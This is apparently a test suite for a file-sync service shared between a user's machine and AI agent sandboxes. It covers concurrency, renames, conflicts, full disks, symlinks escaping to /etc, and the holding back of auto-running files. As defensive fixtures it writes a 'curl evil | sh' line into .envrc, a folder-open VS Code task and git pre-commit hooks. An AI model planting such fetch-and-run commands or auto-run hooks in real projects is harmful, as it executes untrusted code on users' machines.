"""Hazards of real machines: several agents, moved directories, open files, links that lead out, full disks."""
import collections
import contextlib
import os
import threading
import time

from harness import (check, check_all_equal, check_equal, check_no_conflicts, disk_tree, settle, small_disk,
                     wait_until, write)


def test_three_agents_and_a_user_work_at_once(bench):
    service = bench.service()
    volume = service.create_volume()
    sides = [bench.machine("laptop", service).attach(volume)]
    for number in range(3):
        machine = bench.machine(f"sandbox{number}", service)
        sides.append(machine.attach(volume, sandbox=f"sb_{number}"))
    write(sides[0] / "shared/start.txt", "start\n")
    settle(*sides)
    failures = []

    def work(number, side):
        try:
            for turn in range(250):
                write(side / f"own{number}/{turn % 7}/f{turn % 60}.txt", f"{number} {turn}\n" * (turn % 30 + 1))
                write(side / f"shared/from{number}-{turn % 20}.txt", f"{number} {turn}\n")
                if turn % 10 == 9:
                    os.unlink(side / f"shared/from{number}-{turn % 20}.txt")
                time.sleep(0.004)
        except OSError as error:
            failures.append(f"{side}: {error}")

    workers = [threading.Thread(target=work, args=item) for item in enumerate(sides)]
    for worker in workers:
        worker.start()
    for worker in workers:
        worker.join()
    check(not failures, f"writers failed: {failures}")
    settle(*sides)
    there = check_all_equal(volume, *sides)
    check_no_conflicts(volume, *sides)
    for number in range(4):
        check(f"own{number}/4/f4.txt" in there, f"files of writer {number} are missing")
    names = {(entry["metadata"] or {}).get("sandbox_id") for entry in volume.changes() if entry.get("metadata")}
    check({"sb_0", "sb_1", "sb_2"} <= names, f"the journal names only {names}")


def test_a_moved_directory_is_one_entry_and_sends_nothing_again(bench):
    service = bench.service()
    volume = service.create_volume()
    user = bench.machine("laptop", service).attach(volume)
    agent = bench.machine("sandbox", service).attach(volume, sandbox="sb_agent")
    for number in range(1200):
        write(user / f"old/sub{number % 20}/f{number}.txt", f"{number}\n" * 50)
    settle(user, agent)
    head, inodes = volume.head(), {}
    for number in range(1200):
        inodes[number] = os.stat(agent / f"old/sub{number % 20}/f{number}.txt").st_ino
    os.rename(user / "old", user / "new")
    settle(user, agent)
    check_all_equal(volume, user, agent)
    entries = volume.changes(head)
    kinds = collections.Counter(entry["event_type"] for entry in entries)
    bench.note(f"1200 files moved: {dict(kinds)}")
    check(kinds["rename"] == 1 and len(entries) == 1, f"a rename of a directory made {dict(kinds)}")
    same = sum(os.stat(agent / f"new/sub{number % 20}/f{number}.txt").st_ino == inode
               for number, inode in inodes.items())
    check(same == 1200, f"only {same} of 1200 files were moved on the other side; the rest was written again")
    check_no_conflicts(volume, user, agent)


def test_a_write_in_progress_is_not_lost_to_an_incoming_one(bench):
    service = bench.service()
    volume = service.create_volume()
    user = bench.machine("laptop", service).attach(volume)
    write(user / "open.txt", "base\n")
    settle(user)
    with open(user / "open.txt", "r+") as file:
        # The program has the file open for writing, and has not written yet.
        volume.write("open.txt", "the agent's\n")
        volume.write("marker.txt", "after it\n")
        wait_until("later entries are here", (user / "marker.txt").exists, 15)
        file.seek(0)
        file.truncate()
        file.write("the program's\n")
    wait_until("both are kept", lambda: "open.txt" in user.conflicts(), 20)
    check((user / "open.txt").read_text() == "the program's\n", "what the program wrote is gone")
    check(user.side("open.txt", "theirs") == b"the agent's\n", "what the agent wrote is gone")
    user.sync("conflicts", "resolve", "open.txt", "--take-theirs")
    user.flush()
    check((user / "open.txt").read_text() == "the agent's\n", "theirs was not taken")
    check_all_equal(volume, user)


def test_nothing_is_written_through_a_link_that_leads_out(bench):
    service = bench.service()
    volume = service.create_volume()
    machine = bench.machine("laptop", service)
    user = machine.attach(volume)
    outside = machine.dir / "outside"
    write(outside / "precious.txt", "precious\n")
    write(user / "dir/precious.txt", "in the workspace\n")
    settle(user)
    before = disk_tree(outside)
    # The directory becomes a link to a place outside, and the Volume writes below it.
    user.stop()
    os.unlink(user / "dir/precious.txt")
    os.rmdir(user / "dir")
    os.symlink(outside, user / "dir")
    volume.write("dir/precious.txt", "the agent's\n")
    volume.write("dir/planted.txt", "the agent's\n")
    volume.write("marker.txt", "after those\n")
    user.start()
    wait_until("the marker is here", (user / "marker.txt").exists, 20)
    volume.write("dir/precious.txt", "once more\n")
    volume.remove("dir/planted.txt")
    volume.write("marker2.txt", "after those\n")
    wait_until("the next marker is here", (user / "marker2.txt").exists, 20)
    check_equal(before, disk_tree(outside), "the outside before and after")
    check(os.path.islink(user / "dir"), "the user's link was replaced")
    check(volume.read("dir/precious.txt") == b"once more\n", "the agent's write went")
    # A link in the Volume that leads out is not made here.
    volume.service.http.data("PUT", f"{volume.base}/sync/replicas/other", value={"case_sensitive": True})
    volume.service.http.data("POST", f"{volume.base}/sync/replicas/other/changes", value={
        "request_id": "1", "base_seq": volume.head(), "changes": [
            {"event_type": "create", "entry_kind": "symlink", "path": "/escape", "link_target": "/etc"}]})
    volume.write("marker3.txt", "after it\n")
    wait_until("the third marker is here", (user / "marker3.txt").exists, 20)
    check(not os.path.lexists(user / "escape"), "a link that leads out was made")
    check("escape" in user.status()["problems"], f"it is not told: {user.status()['problems']}")


def test_a_full_disk_halts_and_heals(bench):
    with small_disk(bench, "24m") as mount:
        service = bench.service()
        volume = service.create_volume()
        user = bench.machine("laptop", service).attach(volume, mount / "workspace")
        try:
            write(user / "first.txt", "first\n")
            write(user / "ballast.bin", bytes(8 << 20))
            settle(user)
            before = user.tree()
            volume.write("large.bin", bench.random.randbytes(30 << 20))
            wait_until("it is told", lambda: user.status()["condition"] == "halted"
                       or "large.bin" in user.status()["problems"], 30)
            said = str(user.status().get("halt")) + str(user.status()["problems"])
            check("full" in said.lower() or "space" in said.lower(), f"it does not say why: {said}")
            check_equal(before, {name: what for name, what in user.tree().items() if name in before},
                        "the disk before and after")
            check(not (user / "large.bin").exists(), "part of a file is there")
            check(volume.read("first.txt") == b"first\n", "the Volume lost something")
            # There is room again.
            volume.write("large.bin", "small now\n")
            user.sync("resume", ok=False)
            wait_until("it heals", lambda: (user / "large.bin").exists()
                       and (user / "large.bin").read_text() == "small now\n", 30)
            settle(user)
            check_all_equal(volume, user)
        finally:
            with contextlib.suppress(Exception):
                user.stop()


def test_what_would_run_on_this_machine_waits_for_the_user(bench):
    service = bench.service()
    volume = service.create_volume()
    user = bench.machine("laptop", service).attach(volume)
    agent = bench.machine("sandbox", service).attach(volume, sandbox="sb_one")
    write(user / ".envrc", "export CITY=Berlin\n")
    write(user / ".vscode/settings.json", "{}\n")
    settle(user, agent)
    write(agent / ".envrc", "curl evil | sh\n")
    write(agent / ".VSCode/tasks.json", "{\"runOn\": \"folderOpen\"}\n")
    write(agent / "src/.husky/pre-commit", "evil\n")
    write(agent / "src/main.py", "plain\n")
    agent.flush()
    wait_until("what is plain came", (user / "src/main.py").exists, 20)
    held = {it["path"]: it for it in user.json("held", "list")}
    check(set(held) == {".envrc", ".VSCode/tasks.json", "src/.husky/pre-commit"}, f"held: {sorted(held)}")
    check("sb_one" in held[".envrc"]["actor"], held[".envrc"])
    check((user / ".envrc").read_text() == "export CITY=Berlin\n", "a guarded file was written")
    wait_until("what is held is in nobody's way", lambda: user.status()["condition"] == "in_sync", 20)
    check("would run on this machine" in user.sync("status").stdout.decode(), "the status does not tell")
    user.stop()
    user.start()
    wait_until("it is held after a restart too", lambda: len(user.json("held", "list")) == 3, 20)
    check(not (user / "src/.husky/pre-commit").exists(), "a restart let it in")
    user.json("held", "allow", "src")
    wait_until("what was let in came", (user / "src/.husky/pre-commit").exists, 20)
    user.json("held", "discard", ".envrc", ".VSCode")
    wait_until("the user's is back", lambda: (agent / ".envrc").read_text() == "export CITY=Berlin\n", 20)
    settle(user, agent)
    check(not (agent / ".VSCode/tasks.json").exists(), "what was discarded is still there")
    check(user.json("held", "list") == [], "something is still held")
    check_all_equal(volume, user, agent)
    check_no_conflicts(volume, user, agent)


def test_which_paths_are_guarded_is_the_users_to_say(bench):
    service = bench.service()
    volume = service.create_volume()
    own = bench.machine("own", service).attach(volume, guard=["Makefile", "ci/hooks/"])
    free = bench.machine("free", service).attach(volume, guard=[])
    agent = bench.machine("sandbox", service).attach(volume, sandbox="sb_one")
    for path in ("Makefile", "ci/hooks/pre", "other/ci/hooks/pre", ".envrc"):
        write(agent / path, "evil\n")
    agent.flush()
    wait_until("all came where nothing is guarded", lambda: (free / ".envrc").exists()
               and (free / "Makefile").exists() and (free / "ci/hooks/pre").exists(), 20)
    wait_until("the rest came", lambda: (own / ".envrc").exists() and (own / "other/ci/hooks/pre").exists(), 20)
    held = {it["path"] for it in own.json("held", "list")}
    check(held == {"Makefile", "ci/hooks/pre"}, f"held: {sorted(held)}")
    for wrong, word in ((("--guard", "[z-a]"), "range"), (("--guard", ""), "--no-guard"),
                        (("--guard", "a", "--no-guard"), "cannot be used with")):
        refused = own.sync("attach", volume.id, own.root, *wrong, ok=False)
        check(refused.returncode == 2 and word in refused.stderr.decode(), refused.stderr.decode())
    other = own.sync("attach", volume.id, own.root, "--no-guard", ok=False)
    check(other.returncode == 1, other)
    check("with --guard Makefile --guard ci/hooks/" in other.stderr.decode(), other.stderr.decode())
